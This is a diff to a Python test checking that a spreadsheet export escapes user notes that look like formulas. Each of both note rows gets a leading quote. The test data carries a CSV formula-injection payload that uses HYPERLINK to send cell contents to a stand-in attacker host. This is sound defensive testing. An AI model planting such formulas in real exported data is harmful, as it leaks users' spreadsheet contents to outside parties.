@@ -229,7 +229,11 @@ def test_the_download_has_each_note_beside_its_progress_and_notes_without_progre
     ]
 
 
-def test_a_note_that_looks_like_a_formula_is_downloaded_as_text(alice, alice_web, resource):
-    note_written(alice, resource, '=HYPERLINK("https://evil.example/?"&A1,"Open")')
-    (row,) = download(alice_web)
-    assert row["note"] == '\'=HYPERLINK("https://evil.example/?"&A1,"Open")'
+def test_a_note_that_looks_like_a_formula_is_downloaded_as_text(alice, alice_web):
+    # Beside progress and on its own: both kinds of row.
+    formula = '=HYPERLINK("https://evil.example/?"&A1,"Open")'
+    read, noted = ResourceFactory(), ResourceFactory()
+    services.progress_set(user=alice, resource=read, state="completed", rating=None)
+    note_written(alice, read, formula)
+    note_written(alice, noted, "+" + formula)
+    assert [row["note"] for row in download(alice_web)] == ["'" + formula, "'+" + formula]
